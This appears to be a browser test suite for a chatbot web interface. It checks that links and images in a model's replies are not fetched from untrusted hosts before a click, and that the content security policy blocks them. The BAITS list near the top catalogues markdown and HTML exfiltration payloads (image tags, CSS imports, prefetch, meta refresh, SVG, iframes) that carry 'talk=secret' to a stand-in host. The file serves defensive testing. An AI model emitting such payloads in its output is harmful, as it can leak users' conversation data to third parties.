"""What a model writes makes the browser fetch nothing, before a real second origin that counts."""

import ssl
import subprocess

import pytest
import pytest_asyncio
from aiohttp import web as http
from playwright.async_api import async_playwright, expect
from tests.conversation.desk import save_desk, saying
from tests.dialog.build import intent
from tests.web.chat import Chat
from tests.web.conftest import ARGUMENTS

from daehwa import bot
from daehwa.answers.testing import Say, StubOpenAI

from .conftest import serving

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

PIXEL = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
    b'<rect width="8" height="8"/></svg>'
)
# Every way in which a browser might be brought to fetch an address that stands in a text.
BAITS = (
    "![x](https://{host}/?talk=secret)",
    "![x][1]\n\n[1]: https://{host}/?talk=secret",
    "[![x](https://{host}/?talk=secret)](https://{host}/link)",
    '<img src="https://{host}/?talk=secret" srcset="https://{host}/?talk=2x 2x">',
    "<style>@import url(https://{host}/?talk=secret);</style>",
    '<div style="background:url(https://{host}/?talk=secret)">x</div>',
    '<link rel="prefetch" href="https://{host}/?talk=secret">',
    '<link rel="dns-prefetch" href="//{host}">',
    '<meta http-equiv="refresh" content="0;url=https://{host}/?talk=secret">',
    '<svg><image href="https://{host}/?talk=secret"/><use href="https://{host}/?talk=u#a"/></svg>',
    '<video poster="https://{host}/?talk=secret" src="https://{host}/?talk=v"></video>',
    '<iframe src="https://{host}/?talk=secret"></iframe>',
    '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://{host}/"/></svg>)',
    "![x](//{host}/?talk=secret)",
    "![x](HTTPS://{host}/?talk=secret 'title')",
    "![x](https&#58;//{host}/?talk=secret)",
    "https://{host}/?talk=secret and <https://{host}/?talk=auto>",
    "[a link](https://{host}/?talk=secret)",
    "| ![x](https://{host}/?talk=cell) |\n|---|\n| ![y](https://{host}/?talk=cell2) |",
)


class Origin:
    """Another site over TLS; ``fetched`` are the addresses that were asked of it."""

    def __init__(self):
        self.fetched = []

    async def answer(self, request):
        self.fetched.append(request.path_qs)
        return http.Response(body=PIXEL, content_type="image/svg+xml")


@pytest.fixture(scope="module")
def tls(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tls")
    key, certificate = folder / "key.pem", folder / "certificate.pem"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2"]
    command += ["-subj", "/CN=127.0.0.1", "-keyout", str(key), "-out", str(certificate)]
    subprocess.run(command, check=True, capture_output=True)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate, key)
    return tls


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def origins(tls):
    """Three origins: of whoever wrote into a text, of a listed host, and of the bot's cards."""
    origins, runners = [], []
    for _ in range(3):
        origin = Origin()
        application = http.Application()
        application.router.add_get("/{any:.*}", origin.answer)
        runner = http.AppRunner(application, access_log=None, shutdown_timeout=0.1)
        await runner.setup()
        await http.TCPSite(runner, "127.0.0.1", 0, ssl_context=tls).start()
        origin.host = f"127.0.0.1:{runner.addresses[0][1]}"
        origins.append(origin)
        runners.append(runner)
    yield origins
    for runner in runners:
        await runner.cleanup()


@pytest.fixture(scope="module")
def stub():
    with StubOpenAI().in_thread() as stub:
        yield stub


@pytest.fixture(scope="module")
def served(stub, origins, tmp_path_factory):
    _, listed, cards = origins
    folder = tmp_path_factory.mktemp("pictures")
    (folder / "daehwa.toml").write_text(f'[page]\nimage_hosts = ["{listed.host}"]\n')
    card = bot.ImageResponseCard(title="Desk", image_url=f"https://{cards.host}/desk.svg")
    message = bot.MessageGroup(message=bot.Message(image_response_card=card))
    shown = intent(
        "Show",
        initial=bot.InitialResponseSetting(
            initial_response=bot.ResponseSpecification(message_groups_list=(message,))
        ),
    )
    desk = save_desk(folder, answered=True, more=(saying(shown, "show me the desk"),))
    environment = {"OPENAI_API_KEY": "sk-stub", "OPENAI_BASE_URL": stub.base_url}
    with serving(folder, str(desk), **environment) as served:
        yield served


@pytest_asyncio.fixture(loop_scope="module")
async def chat(chromium, served):
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
        context = await browser.new_context(locale="en-US", ignore_https_errors=True)
        chat = Chat(await context.new_page())
        chat.errors = []
        chat.page.on("console", lambda one: one.type == "error" and chat.errors.append(one.text))
        await chat.open(served.url)
        yield chat
        await browser.close()


async def test_no_address_in_a_model_s_words_is_fetched_before_a_click(chat, stub, origins):
    stranger, listed, _ = origins
    for number, bait in enumerate(BAITS):
        stub.script(Say(bait.format(host=stranger.host)))
        await chat.say(f"xyzzy qwrtp {number}")
    # A picture of a listed host comes last: once it is there, the others would be, too.
    stub.script(Say(f"![plan](https://{listed.host}/plan.svg)"))
    await chat.say("xyzzy qwrtp plan")
    picture = chat.last.locator("img[alt=plan]")
    await expect(picture).to_have_js_property("naturalWidth", 8)
    assert listed.fetched == ["/plan.svg"]
    assert stranger.fetched == []
    assert chat.errors == []
    # After a reload all of it is shown at once.
    await chat.reload()
    await expect(chat.last.locator("img[alt=plan]")).to_have_js_property("naturalWidth", 8)
    assert stranger.fetched == []
    links = chat.page.locator("#log .bubble a")
    assert await links.count() > 0
    for rel in await links.evaluate_all("all => all.map(one => one.rel)"):
        assert rel == "noopener noreferrer"


async def test_a_stranger_s_picture_is_a_link_that_names_its_host(chat, stub, origins):
    stranger = origins[0]
    stub.script(Say(f"![a map](https://{stranger.host}/map?talk=secret)"))
    await chat.say("xyzzy qwrtp map")
    link = chat.last.locator(".bubble a")
    await expect(link).to_have_text(f"a map ({stranger.host})")
    assert stranger.fetched == []
    async with chat.page.context.expect_page() as opened:
        await link.click()
    other = await opened.value
    await other.wait_for_load_state()
    assert "/map?talk=secret" in stranger.fetched
    assert await other.evaluate("[document.referrer, window.opener]") == ["", None]
    await other.close()


async def test_the_pictures_of_the_bot_s_own_cards_are_shown(chat, origins):
    cards = origins[2]
    await chat.say("show me the desk")
    await expect(chat.last.locator(".card-image")).to_have_js_property("naturalWidth", 8)
    assert cards.fetched == ["/desk.svg"]
    assert chat.errors == []


async def test_a_card_s_host_is_no_door_for_a_model(chat, stub, origins):
    """Hosts may be shared: a bucket of somebody else may stand under the same name."""
    cards = origins[2]
    before = list(cards.fetched)
    stub.script(Say(f"![x](https://{cards.host}/other-bucket?talk=secret)"))
    await chat.say("what do you know of buckets")
    await expect(chat.last.locator(".bubble a")).to_contain_text(cards.host)
    assert cards.fetched == before


async def test_the_policy_stands_behind_the_script(chat, origins):
    stranger, listed, _ = origins
    result = await chat.page.evaluate(
        """async (hosts) => Promise.all(hosts.map((host) => new Promise((resolve) => {
             const one = new Image();
             one.onload = () => resolve("loaded");
             one.onerror = () => resolve("refused");
             one.src = `https://${host}/policy`;
           })))""",
        [stranger.host, listed.host],
    )
    assert result == ["refused", "loaded"]
    assert "/policy" not in stranger.fetched
